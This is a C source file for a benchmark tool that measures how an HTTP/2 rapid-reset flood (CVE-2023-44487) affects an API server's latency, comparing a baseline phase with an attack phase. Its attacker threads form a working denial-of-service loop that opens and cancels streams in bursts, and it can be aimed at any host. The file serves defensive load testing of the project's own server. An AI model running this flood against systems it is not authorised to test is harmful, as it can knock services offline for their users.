/*
 * rapid_reset.c — fofal-bench-rapid-reset: measures what an HTTP/2 "rapid reset" flood
 * (CVE-2023-44487) does to fofal-api's latency (issue 22 item 9).
 *
 * Attackers: --connections h2c connections (prior knowledge, libnghttp2), each in its own
 * thread, open a stream (HEADERS GET --path, END_STREAM) and cancel it at once
 * (RST_STREAM CANCEL), in a loop: the client's concurrency never exceeds one stream, so
 * SETTINGS_MAX_CONCURRENT_STREAMS never limits it, while the server parses, routes and
 * starts every request. Prober: one HTTP/1.1 keep-alive connection that GETs --probe-path
 * one request at a time and records each latency; --probe-source gives it another source
 * address (127.0.0.2), so that the server's per-IP limit tells it from the attacker.
 *
 * The run is two phases of --seconds each: the prober alone (baseline), then the prober
 * with the attackers. It prints one JSON object: streams opened and reset per second,
 * GOAWAYs and connection closes the attackers met (a server that defends itself closes
 * them), and the prober's count, p50, p99, max and failures per phase.
 *
 * Threads: the main thread (phases, report), the prober, one per attacker connection.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char *host = "127.0.0.1", *path = "/healthz", *probe_path = "/healthz", *token, *probe_source;
static int port, nconn = 4, seconds = 10, no_reset;
static atomic_int attacking, stop_all;
static atomic_llong streams, goaways, closes, reconnects;

static int64_t now_us(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

/* A TCP connection to host:port, from address `source` if not NULL. */
static int dial(const char *source) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  if (inet_pton(AF_INET, host, &a.sin_addr) != 1) return -1;
  int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;
  if (fd < 0) return -1;
  struct sockaddr_in src = {.sin_family = AF_INET};
  if (source && (inet_pton(AF_INET, source, &src.sin_addr) != 1 || bind(fd, (struct sockaddr *)&src, sizeof src))) {
    close(fd);
    return -1;
  }
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  struct timeval tv = {.tv_sec = 5};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  if (connect(fd, (struct sockaddr *)&a, sizeof a)) {
    close(fd);
    return -1;
  }
  return fd;
}

/* ------------------------------------------------------------ attackers */

typedef struct {
  int fd;
  int dead;
} att_t;

static ssize_t on_send(nghttp2_session *s, const uint8_t *data, size_t len, int flags, void *user) {
  (void)s, (void)flags;
  att_t *a = user;
  ssize_t w = send(a->fd, data, len, MSG_NOSIGNAL);
  if (w < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return NGHTTP2_ERR_WOULDBLOCK;
  if (w <= 0) {
    a->dead = 1;
    return NGHTTP2_ERR_CALLBACK_FAILURE;
  }
  return w;
}

static int on_frame(nghttp2_session *s, const nghttp2_frame *f, void *user) {
  (void)s, (void)user;
  if (f->hd.type == NGHTTP2_GOAWAY) atomic_fetch_add(&goaways, 1);
  return 0;
}

/* Reads whatever the server sent, without waiting. */
static void drain_input(nghttp2_session *s, att_t *a) {
  uint8_t buf[16384];
  for (;;) {
    ssize_t r = recv(a->fd, buf, sizeof buf, MSG_DONTWAIT);
    if (r == 0) a->dead = 1;
    if (r <= 0) return;
    if (nghttp2_session_mem_recv(s, buf, (size_t)r) < 0) {
      a->dead = 1;
      return;
    }
  }
}

static void *attacker(void *arg) {
  (void)arg;
  char auth[4200];
  snprintf(auth, sizeof auth, "Bearer %s", token ? token : "");
  while (!atomic_load(&stop_all)) {
    if (!atomic_load(&attacking)) {
      usleep(10000);
      continue;
    }
    att_t a = {.fd = dial(NULL)};
    if (a.fd < 0) {
      usleep(10000);
      continue;
    }
    nghttp2_session_callbacks *cb;
    nghttp2_session *s;
    nghttp2_session_callbacks_new(&cb);
    nghttp2_session_callbacks_set_send_callback(cb, on_send);
    nghttp2_session_callbacks_set_on_frame_recv_callback(cb, on_frame);
    nghttp2_session_client_new(&s, cb, &a);
    nghttp2_session_callbacks_del(cb);
    nghttp2_settings_entry iv[] = {{NGHTTP2_SETTINGS_MAX_CONCURRENT_STREAMS, 100}};
    nghttp2_submit_settings(s, NGHTTP2_FLAG_NONE, iv, 1);
    char authority[64];
    snprintf(authority, sizeof authority, "%s:%d", host, port);
    nghttp2_nv nv[] = {
        {(uint8_t *)":method", (uint8_t *)"GET", 7, 3, 0},
        {(uint8_t *)":scheme", (uint8_t *)"http", 7, 4, 0},
        {(uint8_t *)":authority", (uint8_t *)authority, 10, strlen(authority), 0},
        {(uint8_t *)":path", (uint8_t *)path, 5, strlen(path), 0},
        {(uint8_t *)"authorization", (uint8_t *)auth, 13, strlen(auth), 0},
    };
    int nnv = token ? 5 : 4;
    while (!a.dead && atomic_load(&attacking) && !atomic_load(&stop_all)) {
      /* A burst of 50 opened-and-cancelled streams, then one send and a look at input. */
      for (int i = 0; i < 50; i++) {
        int32_t id = nghttp2_submit_request(s, NULL, nv, (size_t)nnv, NULL, NULL);
        if (id < 0) {
          a.dead = 1; /* stream ids exhausted: a new connection */
          break;
        }
        if (!no_reset) nghttp2_submit_rst_stream(s, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
        atomic_fetch_add(&streams, 1);
      }
      if (nghttp2_session_send(s)) a.dead = 1;
      drain_input(s, &a);
      if (!nghttp2_session_want_read(s) && !nghttp2_session_want_write(s)) a.dead = 1;
    }
    if (a.dead) atomic_fetch_add(&closes, 1);
    nghttp2_session_del(s);
    close(a.fd);
    atomic_fetch_add(&reconnects, 1);
  }
  return NULL;
}

/* ------------------------------------------------------------ prober */

#define MAX_SAMPLES 1000000
typedef struct {
  int64_t *lat;
  long n, failures;
} phase_t;
static phase_t phases[2];
static atomic_int phase_no;

/* One GET on fd (keep-alive); 0 and the status, or -1. Reads the whole answer. */
static int get(int fd, int *status) {
  char req[4400], buf[65536];
  int n = snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: %s:%d\r\n%s%s%s\r\n", probe_path, host, port,
                   token ? "Authorization: Bearer " : "", token ? token : "", token ? "\r\n" : "");
  if (send(fd, req, (size_t)n, MSG_NOSIGNAL) != n) return -1;
  size_t got = 0;
  long want = -1;
  for (;;) {
    ssize_t r = recv(fd, buf + got, sizeof buf - got - 1, 0);
    if (r <= 0) return -1;
    got += (size_t)r;
    buf[got] = '\0';
    char *end = strstr(buf, "\r\n\r\n");
    if (!end) continue;
    if (want < 0) {
      char *cl = strcasestr(buf, "content-length:");
      want = (long)(end + 4 - buf) + (cl ? atol(cl + 15) : 0);
    }
    if ((long)got >= want) break;
  }
  *status = atoi(buf + 9);
  return 0;
}

static void *prober(void *arg) {
  (void)arg;
  int fd = -1;
  while (!atomic_load(&stop_all)) {
    phase_t *ph = &phases[atomic_load(&phase_no)];
    if (fd < 0 && (fd = dial(probe_source)) < 0) {
      ph->failures++;
      usleep(10000);
      continue;
    }
    int st = 0;
    int64_t t0 = now_us();
    int rc = get(fd, &st);
    int64_t dt = now_us() - t0;
    if (rc || st != 200) {
      ph->failures++;
      close(fd);
      fd = -1;
      continue;
    }
    if (ph->n < MAX_SAMPLES) ph->lat[ph->n++] = dt;
    usleep(2000); /* ~500 probes a second at most: the prober must not be the load */
  }
  if (fd >= 0) close(fd);
  return NULL;
}

static int cmp64(const void *a, const void *b) {
  int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;
  return (x > y) - (x < y);
}

static void report_phase(const char *name, phase_t *ph, int last) {
  qsort(ph->lat, (size_t)ph->n, sizeof *ph->lat, cmp64);
  double p50 = ph->n ? ph->lat[ph->n / 2] / 1000.0 : -1, p99 = ph->n ? ph->lat[ph->n * 99 / 100] / 1000.0 : -1,
         mx = ph->n ? ph->lat[ph->n - 1] / 1000.0 : -1;
  printf("  \"%s\": {\"probes\": %ld, \"failures\": %ld, \"p50_ms\": %.3f, \"p99_ms\": %.3f, \"max_ms\": %.3f}%s\n", name,
         ph->n, ph->failures, p50, p99, mx, last ? "" : ",");
}

int main(int argc, char **argv) {
  static struct option opts[] = {{"port", 1, 0, 'p'},       {"host", 1, 0, 'H'},    {"connections", 1, 0, 'c'},
                                 {"seconds", 1, 0, 's'},    {"path", 1, 0, 'P'},    {"probe-path", 1, 0, 'q'},
                                 {"token", 1, 0, 't'},      {"help", 0, 0, 'h'},    {"probe-source", 1, 0, 'S'},
                                 {"no-reset", 0, 0, 'N'}, {0, 0, 0, 0}};
  int o;
  while ((o = getopt_long(argc, argv, "h", opts, NULL)) != -1) {
    switch (o) {
    case 'p': port = atoi(optarg); break;
    case 'H': host = optarg; break;
    case 'c': nconn = atoi(optarg); break;
    case 's': seconds = atoi(optarg); break;
    case 'P': path = optarg; break;
    case 'q': probe_path = optarg; break;
    case 't': token = optarg; break;
    case 'S': probe_source = optarg; break;
    case 'N': no_reset = 1; break; /* the same streams, not cancelled: what a plain flood costs */
    case 'h':
    default:
      fprintf(o == 'h' ? stdout : stderr,
              "usage: fofal-bench-rapid-reset --port P [--host 127.0.0.1] [--connections 4] [--seconds 10]\n"
              "         [--path /healthz] [--probe-path /healthz] [--token JWT] [--probe-source 127.0.0.2] [--no-reset]\n"
              "HTTP/2 rapid reset (CVE-2023-44487) against an h2c server: the prober's latency alone, then\n"
              "while --connections connections open and cancel streams of --path in a loop. Prints JSON.\n");
      return o == 'h' ? 0 : 2;
    }
  }
  if (port <= 0 || nconn < 1 || nconn > 64 || seconds < 1) {
    fprintf(stderr, "fofal-bench-rapid-reset: --port, --connections 1..64, --seconds >= 1 please\n");
    return 2;
  }
  for (int i = 0; i < 2; i++) phases[i].lat = calloc(MAX_SAMPLES, sizeof(int64_t));
  pthread_t pr, at[64];
  pthread_create(&pr, NULL, prober, NULL);
  for (int i = 0; i < nconn; i++) pthread_create(&at[i], NULL, attacker, NULL);
  sleep((unsigned)seconds); /* phase 0: baseline */
  atomic_store(&phase_no, 1);
  int64_t t0 = now_us();
  atomic_store(&attacking, 1);
  sleep((unsigned)seconds); /* phase 1: under attack */
  atomic_store(&attacking, 0);
  double dur = (now_us() - t0) / 1e6;
  atomic_store(&stop_all, 1);
  pthread_join(pr, NULL);
  for (int i = 0; i < nconn; i++) pthread_join(at[i], NULL);
  printf("{\n  \"connections\": %d, \"seconds\": %d, \"path\": \"%s\", \"probe_path\": \"%s\",\n", nconn, seconds, path,
         probe_path);
  printf("  \"reset_streams\": %lld, \"reset_streams_per_s\": %.0f, \"goaways\": %lld, \"connections_closed\": %lld,\n",
         (long long)atomic_load(&streams), atomic_load(&streams) / dur, (long long)atomic_load(&goaways),
         (long long)atomic_load(&closes));
  report_phase("baseline", &phases[0], 0);
  report_phase("under_attack", &phases[1], 1);
  printf("}\n");
  for (int i = 0; i < 2; i++) free(phases[i].lat);
  return 0;
}
